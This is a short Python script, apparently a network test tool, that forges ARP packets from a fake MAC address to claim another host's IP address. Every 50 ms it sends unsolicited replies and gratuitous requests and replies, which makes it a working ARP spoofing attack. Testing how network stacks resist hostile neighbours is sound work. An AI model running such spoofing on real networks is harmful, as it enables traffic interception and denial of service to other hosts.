#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""Claims an address of another host by ARP, in every way: bad_neighbour.py INTERFACE IP TO-MAC
TO-IP TIMES

Every 50 ms an unasked reply, a gratuitous request and a gratuitous reply, from 02:00:00:00:66:66.
"""
import socket
import struct
import sys
import time

from wire import open_interface

FORGER = bytes.fromhex("020000006666")


def arp(operation, sender, target_mac, target):
    return struct.pack(">HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, FORGER, socket.inet_aton(sender),
                       target_mac, socket.inet_aton(target))


def main():
    interface, address, mac, to, times = sys.argv[1:]
    mac = bytes.fromhex(mac.replace(":", ""))
    out = open_interface(interface)
    for _ in range(int(times)):
        out.send(mac + FORGER + b"\x08\x06" + arp(2, address, mac, to))
        out.send(b"\xff" * 6 + FORGER + b"\x08\x06" + arp(1, address, bytes(6), address))
        out.send(b"\xff" * 6 + FORGER + b"\x08\x06" + arp(2, address, b"\xff" * 6, address))
        time.sleep(0.05)


main()
